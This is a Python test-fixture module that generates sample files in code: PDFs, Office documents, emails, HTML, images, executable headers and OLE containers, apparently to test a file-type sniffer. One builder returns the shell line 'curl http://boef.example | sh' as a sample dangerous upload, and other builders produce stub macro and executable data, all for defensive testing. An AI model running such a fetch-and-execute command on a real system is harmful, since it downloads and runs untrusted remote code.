"""Sample files built in code at test time, so no binary fixtures live in the repo.

Each builder returns the file's bytes. The words the tests look for are constants
here so that a builder and its assertion cannot drift apart.
"""

import io
import struct
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime

DUTCH_WORD = "klachtenbehandeling"
ACCENTED_WORD = "geëscaleerd"
TABLE_WORD = "beroepscommissie"
ATTACHMENT_NAME = "verslag hoorzitting.pdf"
SCRIPT_SECRET = "geheimScriptWoord"
STYLE_SECRET = "geheimeStijlKleur"


def pdf(*, body: str | None = None) -> bytes:
    from weasyprint import HTML

    body = body or (
        f"<h1>Procedure {DUTCH_WORD}</h1>"
        f"<p>De klacht is {ACCENTED_WORD} naar de directie.</p>"
        "<p>Tweede alinea.</p>"
    )
    return HTML(string=f"<html lang='nl'><body>{body}</body></html>").write_pdf()


def encrypted_pdf(*, user_password: str, algorithm: str = "RC4-128") -> bytes:
    """A PDF encrypted with pypdf; RC4 needs no optional crypto package, AES does."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(
        user_password=user_password, owner_password="eigenaar", algorithm=algorithm
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = pdf()
    return data[: len(data) // 3]


def garbage_pdf() -> bytes:
    """A ``%PDF-`` header followed by bytes that are no PDF at all."""
    return b"%PDF-1.7\n" + bytes((i * 97 + 13) % 256 for i in range(4096))


def docx(*, macros: bool = False) -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_heading("Verslag", level=1)
    document.add_paragraph(f"Dit verslag gaat over {DUTCH_WORD}.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Behandeld door"
    table.cell(0, 1).text = TABLE_WORD
    table.cell(1, 0).text = "Status"
    table.cell(1, 1).text = ACCENTED_WORD
    out = io.BytesIO()
    document.save(out)
    if not macros:
        return out.getvalue()
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return out.getvalue()


def _zip(members: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(
                stored_first, members.pop(stored_first), zipfile.ZIP_STORED
            )
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


_CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def xlsx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"<worksheet/>",
        }
    )


def pptx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "ppt/presentation.xml": b"<presentation/>",
        }
    )


def odt() -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest:manifest/>",
        },
        stored_first="mimetype",
    )


def plain_zip() -> bytes:
    return _zip({"foto.jpg": b"\xff\xd8\xff", "notities.txt": b"hallo"})


def jar() -> bytes:
    return _zip(
        {"META-INF/MANIFEST.MF": b"Main-Class: Boef\n", "Boef.class": b"\xca\xfe"}
    )


def eml() -> bytes:
    message = EmailMessage()
    message["From"] = "Jan de Vries <jan@klant.example>"
    message["To"] = "kwaliteit@ciio.example"
    message["Cc"] = "directie@ciio.example"
    message["Subject"] = f"Klacht over {DUTCH_WORD}"
    message["Date"] = format_datetime(datetime(2026, 3, 2, 9, 30, tzinfo=UTC))
    message.set_content(f"Geachte heer,\n\nDe zaak is {ACCENTED_WORD}.\n\nJan")
    message.add_alternative(
        f"<p>Geachte heer,</p><p>De zaak is {ACCENTED_WORD}.</p>", subtype="html"
    )
    message.add_attachment(
        b"%PDF-1.4 bijlage",
        maintype="application",
        subtype="pdf",
        filename=ATTACHMENT_NAME,
    )
    return message.as_bytes()


def html_only_eml() -> bytes:
    message = EmailMessage()
    message["From"] = "melder@example.org"
    message["Subject"] = "Alleen HTML"
    message.set_content(
        f"<html><body><p>Over {DUTCH_WORD}</p><script>{SCRIPT_SECRET}()</script>"
        "</body></html>",
        subtype="html",
    )
    return message.as_bytes()


def html() -> bytes:
    return (
        "<!DOCTYPE html><html lang='nl'><head><meta charset='utf-8'>"
        f"<title>Procedure</title><style>p {{ color: {STYLE_SECRET}; }}</style>"
        "</head><body>"
        f"<h1>Over {DUTCH_WORD}</h1><p>De klacht is <b>{ACCENTED_WORD}</b>.</p>"
        f"<script>var x = '{SCRIPT_SECRET}';</script>"
        "<!-- opmerking die niemand ziet -->"
        "</body></html>"
    ).encode()


def cp1252_text() -> bytes:
    return "Overleg in het café over de klacht.\r\n".encode("cp1252")


def jpeg() -> bytes:
    return _image("JPEG")


def png() -> bytes:
    return _image("PNG")


def tiff() -> bytes:
    return _image("TIFF")


def _image(image_format: str) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, format=image_format)
    return out.getvalue()


def heic_header() -> bytes:
    """The ISO-BMFF ``ftyp`` box an iPhone photo starts with (enough to sniff)."""
    ftyp = b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + b"\x00" * 64


def windows_executable() -> bytes:
    header = bytearray(256)
    header[0:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    header[0x80:0x84] = b"PE\x00\x00"
    return bytes(header) + b"This program cannot be run in DOS mode."


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def macho_executable() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://boef.example | sh\n"


def unknown_binary() -> bytes:
    return bytes(range(256)) * 4


def ole_file(stream_names: list[str]) -> bytes:
    """A minimal OLE2 compound file whose directory lists `stream_names`.

    Outlook ``.msg`` and legacy Office files are OLE2 containers; only the
    directory matters to the sniffer, so the streams themselves are empty.
    """
    sector = 512
    end_of_chain, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = bytearray(sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 0x2C, 1)  # number of FAT sectors
    struct.pack_into("<I", header, 0x30, 1)  # first directory sector
    struct.pack_into("<I", header, 0x38, 4096)  # mini stream cutoff
    struct.pack_into("<II", header, 0x3C, end_of_chain, 0)  # no mini FAT
    struct.pack_into("<II", header, 0x44, end_of_chain, 0)  # no DIFAT sectors
    struct.pack_into("<109I", header, 0x4C, 0, *([free] * 108))
    fat = struct.pack("<128I", fat_sector, end_of_chain, *([free] * 126))
    entries = [("Root Entry", 5), *((name, 2) for name in stream_names)]
    directory = bytearray()
    for name, entry_type in entries[:4]:
        entry = bytearray(128)
        encoded = (name + "\x00").encode("utf-16-le")
        entry[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 64, len(encoded), entry_type, 1)
        struct.pack_into("<III", entry, 68, free, free, free)
        struct.pack_into("<I", entry, 116, end_of_chain)
        directory += entry
    directory += b"\x00" * (sector - len(directory))
    return bytes(header) + fat + bytes(directory)


def outlook_msg() -> bytes:
    return ole_file(
        ["__nameid_version1.0", "__substg1.0_0037001F", "__properties_version1.0"]
    )


def legacy_word() -> bytes:
    return ole_file(["WordDocument", "\x01CompObj", "1Table"])
